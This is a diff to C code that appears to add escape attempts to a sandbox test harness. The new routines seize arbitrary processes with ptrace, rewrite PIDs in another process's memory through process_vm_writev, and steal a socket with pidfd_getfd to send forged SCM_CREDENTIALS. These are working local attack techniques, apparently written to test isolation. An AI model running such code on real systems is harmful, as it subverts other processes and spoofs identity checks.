@@ -6,12 +6,15 @@
 #include <fcntl.h>
 #include <signal.h>
 #include <stdio.h>
+#include <stdint.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/uio.h>
+#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -180,6 +183,85 @@ static void rob(const char *argument) {
   say(reached ? "reached others" : "reached nobody");
 }
 
+/* Waits for one that comes in and traces it, and lets go of it never. */
+static int catch_one(void) {
+  say("begins");
+  fflush(stdout);
+  alarm(30);
+  for (;;)
+    for (int pid = 2; pid < 400; pid++)
+      if (pid != getpid() && pid != getppid() && ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) return pid;
+}
+
+static void keep(const char *unused) {
+  (void)unused;
+  catch_one();
+  for (;;) pause();
+}
+
+/* Where the plan is in the memory of one that is about to perform it; 0 where it is none. */
+static unsigned long plan_of(int pid) {
+  char path[64], line[512];
+  unsigned long address = 0;
+  snprintf(path, sizeof path, "/proc/%d/maps", pid);
+  FILE *file = fopen(path, "r");
+  while (file && fgets(line, sizeof line, file))
+    if (strstr(line, "memfd:cella-plan")) address = strtoul(line, NULL, 16);
+  if (file) fclose(file);
+  return address;
+}
+
+static int catch_performer(unsigned long *plan) {
+  int pid;
+  do {
+    pid = catch_one();
+    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
+    waitpid(pid, NULL, __WALL);
+    *plan = plan_of(pid);
+    if (!*plan) ptrace(PTRACE_DETACH, pid, NULL, NULL);
+  } while (!*plan);
+  return pid;
+}
+
+/* VICTIM:CALLER: what looks like the number of a process behind the caller becomes the victim's. */
+static void forge_numbers(const char *argument) {
+  int victim, caller, numbers[72];
+  unsigned long plan;
+  if (sscanf(argument, "%d:%d", &victim, &caller) != 2) return say("bad argument");
+  int pid = catch_performer(&plan);
+  struct iovec here = {numbers, sizeof numbers}, there = {(void *)plan, sizeof numbers};
+  process_vm_readv(pid, &here, 1, &there, 1, 0);
+  for (size_t i = 0; i < sizeof numbers / sizeof *numbers; i++)
+    if (numbers[i] > caller && numbers[i] < caller + 1000000) numbers[i] = victim;
+  process_vm_writev(pid, &here, 1, &there, 1, 0);
+  for (;;) pause();
+}
+
+/* Says something to the caller in the name of who comes in, again and again. Takes CAP_SYS_ADMIN (unix(7)). */
+static void flood(const char *what) {
+  unsigned long plan;
+  int pid = catch_performer(&plan), channel = -1;
+  long pidfd = syscall(SYS_pidfd_open, pid, 0);
+  for (int fd = 3; fd < 256 && channel < 0; fd++) {
+    long own = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
+    struct stat info;
+    if (own >= 0 && fstat((int)own, &info) == 0 && S_ISSOCK(info.st_mode)) channel = (int)own;
+  }
+  struct ucred name = {.pid = pid};
+  union {
+    char space[CMSG_SPACE(sizeof name)];
+    struct cmsghdr header;
+  } control = {.header = {CMSG_LEN(sizeof name), SOL_SOCKET, SCM_CREDENTIALS}};
+  memcpy(CMSG_DATA(&control.header), &name, sizeof name);
+  struct iovec vector = {(void *)(uintptr_t)what, strlen(what)};
+  struct msghdr message = {
+      .msg_iov = &vector, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
+  for (;;) {
+    sendmsg(channel, &message, MSG_NOSIGNAL | MSG_DONTWAIT);
+    nanosleep(&(struct timespec){.tv_nsec = 100000000}, NULL);
+  }
+}
+
 const struct attempt process_attempts[] = {
     {"processes", list},
     {"kill", kill_one},
@@ -192,5 +274,8 @@ const struct attempt process_attempts[] = {
     {"stop_all", stop_all},
     {"hunt", hunt},
     {"rob", rob},
+    {"keep", keep},
+    {"forge_numbers", forge_numbers},
+    {"flood", flood},
     {NULL, NULL},
 };
